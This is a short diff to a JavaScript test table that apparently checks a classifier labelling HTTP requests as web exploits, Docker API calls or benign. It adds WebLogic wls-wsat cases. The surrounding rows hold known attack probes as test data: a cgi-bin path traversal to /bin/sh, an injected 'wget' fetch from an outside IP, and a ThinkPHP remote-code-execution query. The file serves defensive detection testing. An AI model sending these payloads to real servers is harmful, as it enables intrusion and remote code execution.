@@ -84,6 +84,9 @@ describe('contacts with services', () => {
     ['/cgi-bin/.%2e/.%2e/bin/sh', null, 'POST', 'web-exploit'],
     ['/ping', 'host=127.0.0.1;wget+http://198.51.100.4/x', 'GET', 'web-exploit'],
     ['/index.php', 's=/index/think%5Capp/invokefunction&function=call_user_func_array', 'GET', 'web-exploit'],
+    ['/wls-wsat/CoordinatorPortType', null, 'POST', 'web-exploit'],
+    ['/wls-wsat/CoordinatorPortType', null, 'GET', null],
+    ['/api/orders', null, 'POST', null],
     ['/v1.41/containers/create', null, 'POST', 'docker-api'],
     ['/v1.41/containers/json', null, 'GET', null],
   ])('a request for %s?%s', (path, query, method, kind) => {
